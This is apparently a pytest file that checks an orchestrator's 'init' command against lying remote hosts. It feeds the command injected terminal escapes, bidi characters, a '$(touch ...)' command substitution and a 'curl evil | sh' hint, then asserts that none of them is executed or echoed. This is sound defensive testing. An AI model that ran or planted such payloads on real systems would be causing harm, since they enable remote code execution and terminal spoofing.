"""`init` of hosts that lie: it writes what strangers say of themselves into a file of ours."""

from __future__ import annotations

import os
import re
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from orchestrator.config.load import load
from orchestrator.rehearsal import Cluster
from tests import command
from tests.hostile.middle import Middle
from tests.hostile.row import when

_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]")
_WORDS = (
    r"""words = '\x1b]0;owned\x07\x1b[2J\x9b2J\u202e\u200b"\n\r[[host]]\nerror: x $(touch ' + CANARY + ')'"""
)
# A python3 of the login's own PATH: our agent is started with -S, everything else is honest.
_PROGRAM = '#!/bin/sh\ncase " $* " in *" -S "*) {noise} exec {liar} "$@" ;; esac\nexec {python} "$@"\n'


@dataclass(frozen=True)
class Place:
    """A host that lies, and a home of ours."""

    cluster: Cluster
    liar: Middle
    canary: Path
    home: Path

    def becomes(self, lie: str, noise: str = "") -> None:
        self.liar.lie(lie)
        program = self.cluster.folder / "home-1" / "bin" / "python3"
        program.parent.mkdir(exist_ok=True)
        program.write_text(_PROGRAM.format(noise=noise, liar=self.liar.path, python=sys.executable))
        program.chmod(0o755)
        (self.cluster.folder / "home-1" / ".bashrc").write_text(f"PATH={program.parent}:$PATH\n")


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    folder = tmp_path_factory.mktemp("init")
    (folder / "home").mkdir()
    with Cluster(1, name="gpu") as cluster:
        yield Place(cluster, Middle(folder / "liar", folder / "canary"), folder / "canary", folder / "home")


def _of(ips: str, name: str = "words") -> str:
    return _facts(f"result['addresses'] = [{{'name': {name}, 'ip': ip}} for ip in {ips}]")


def _facts(what: str) -> str:
    return when("facts", f"{_WORDS}\n{what}")


def _prints(what: str) -> str:
    """In the place of what the look at the host prints."""
    return _facts(f"result['answers']['pythons'] = {what}")


_ADVICE = (
    "error = {'what': 'is old', 'hint': 'curl evil | sh'}\n"
    "header, payload = {'id': header['id'], 'ok': False, 'error': error}, b''"
)
_OK, _LOST = 0, 3
LIES: dict[str, tuple[str, int, str]] = {
    "addresses that are none": (_of("(words, '::%%', '300.1.2.3', '')"), _OK, ""),
    "GPUs of hostile words": (_facts("result['gpus'] = [{'index': 0, 'name': words}] * 9"), _OK, "9 x "),
    "a python of hostile words": (_prints("'2.1 ' + words"), _OK, ""),
    "advice": (when("facts", _ADVICE), _LOST, "says: is old"),
}  # fmt: skip


@pytest.mark.parametrize("name", LIES)
def test_init_believes_nothing_that_cannot_be(place: Place, name: str) -> None:
    lie, status, words = LIES[name]
    place.becomes(lie)
    said = _init(place, status)
    assert words in said, said


def test_a_login_that_prints_without_end(place: Place) -> None:
    place.becomes("", noise="yes 'error: \x1b[2J x'; ")
    said = _init(place, 3, ORCHESTRATE_TIMINGS='{"hello": 3}')
    assert "error: gpu-01 " in said


def _init(place: Place, status: int, **environment: str) -> str:
    words = ("--ssh-config", str(place.cluster.ssh_config), "--no-preflight", "gpu-01")
    (place.home / "hosts.toml").unlink(missing_ok=True)
    environ = {**os.environ, "HOME": str(place.home), **environment}
    done = command.run(("init", *words), place.home, environ)
    said = done.stdout + done.stderr
    assert done.returncode == status, said
    assert "a bug in orchestrate" not in said
    assert "Traceback" not in said
    assert not place.canary.exists()
    assert not [line for line in said.splitlines() if _UNSAFE.search(line)]
    assert not [line for line in said.splitlines() if line.startswith("  try:") and "evil" in line]
    written = (place.home / "hosts.toml").read_text()
    assert not _UNSAFE.search(written)
    assert [host.name for host in load(place.home / "hosts.toml").hosts] == ["gpu-01"]
    assert {path.name for path in place.home.iterdir()} <= {"hosts.toml", ".local", ".cache", ".config"}
    return said
